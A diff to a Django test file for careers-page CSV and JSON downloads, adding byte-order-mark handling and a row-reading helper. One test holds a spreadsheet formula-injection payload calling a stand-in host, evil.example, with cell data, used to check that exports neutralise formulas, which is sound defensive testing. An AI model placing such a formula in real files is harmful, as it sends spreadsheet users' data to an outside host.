@@ -1,5 +1,6 @@
 """/careers/<slug>/data.csv and data.json: the page's figures with their sources."""
 
+import codecs
 import csv
 import datetime
 import io
@@ -13,12 +14,20 @@ from tests.factories import DataReleaseFactory, WageEstimateFactory, full_career
 pytestmark = pytest.mark.django_db
 
 
+def csv_rows(response):
+    """The rows of a data.csv download, read as a program that knows UTF-8 reads
+    them (its byte order mark dropped)."""
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
 def test_download_csv_lists_each_figure_with_its_source(client, career):
     response = client.get(f"/careers/{career.slug}/data.csv")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     assert f'filename="{career.slug}.csv"' in response["Content-Disposition"]
-    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    # Marked UTF-8 (a byte order mark), or Excel read "2024–34" as "2024â€“34".
+    assert response.content.startswith(codecs.BOM_UTF8 + b"section,")
+    rows = csv_rows(response)
     figures = {(row["section"], row["measure"]): row for row in rows}
     median = figures[("wages", "annual median")]
     assert median["value"] == "85720"
@@ -34,11 +43,7 @@ def test_download_csv_lists_each_figure_with_its_source(client, career):
 
 def test_download_csv_top_coded_value_is_qualified(client, db):
     page = full_career(annual=("50440", "64060", "85720", "180000", "239200"))
-    rows = list(
-        csv.DictReader(
-            io.StringIO(client.get(f"/careers/{page.slug}/data.csv").content.decode())
-        )
-    )
+    rows = csv_rows(client.get(f"/careers/{page.slug}/data.csv"))
     (top,) = [row for row in rows if row["measure"] == "annual 90th percentile"]
     assert (top["value"], top["qualifier"]) == ("239200", "or more")
 
@@ -47,8 +52,8 @@ def test_download_csv_text_a_spreadsheet_would_run_is_kept_as_text(client, db):
     page = full_career(growth="-2.0")
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
     page.occupation.projections.update(typical_education=formula)
-    content = client.get(f"/careers/{page.slug}/data.csv").content.decode()
-    figures = {row["measure"]: row for row in csv.DictReader(io.StringIO(content))}
+    rows = csv_rows(client.get(f"/careers/{page.slug}/data.csv"))
+    figures = {row["measure"]: row for row in rows}
     assert figures["typical education needed for entry"]["value"] == f"'{formula}"
     # A figure stays a number, minus sign and all.
     assert figures["projected growth"]["value"] == "-2"
@@ -96,7 +101,7 @@ def test_download_query_count_is_constant(client, django_assert_num_queries, siz
             response = client.get(f"/careers/{page.slug}/{suffix}")
         assert response.status_code == 200
         downloads[suffix] = response
-    rows = list(csv.DictReader(io.StringIO(downloads["data.csv"].content.decode())))
+    rows = csv_rows(downloads["data.csv"])
     figures = downloads["data.json"].json()["figures"]
     assert [row["measure"] for row in rows] == [f["measure"] for f in figures]
     wages = [row for row in rows if row["section"] == "wages"]
@@ -110,9 +115,7 @@ def test_download_query_count_is_constant(client, django_assert_num_queries, siz
 def test_download_csv_hourly_wages_keep_their_cents(client, career):
     """A whole-dollar hourly wage read "14" where the page prints $14.00."""
     career.occupation.wage_estimates.update(hourly_pct10=Decimal("14"))
-    rows = csv.DictReader(
-        io.StringIO(client.get(f"/careers/{career.slug}/data.csv").content.decode())
-    )
+    rows = csv_rows(client.get(f"/careers/{career.slug}/data.csv"))
     values = {row["measure"]: row["value"] for row in rows}
     assert values["hourly 10th percentile"] == "14.00"
     assert values["annual median"] == "85720"
@@ -131,8 +134,8 @@ def test_download_names_each_figures_own_source_and_has_every_figure_shown(clien
         education_level="Master's Degree",
         education_level_percent=Decimal("42.86"),
     )
-    content = client.get(f"/careers/{page.slug}/data.csv").content.decode()
-    figures = {row["measure"]: row for row in csv.DictReader(io.StringIO(content))}
+    rows = csv_rows(client.get(f"/careers/{page.slug}/data.csv"))
+    figures = {row["measure"]: row for row in rows}
     assert "for 29-1140 Registered nurses" in figures["projected growth"]["source"]
     average = figures["all occupations projected growth"]
     assert average["source"].startswith("BLS Employment Projections, 2024–34. ")
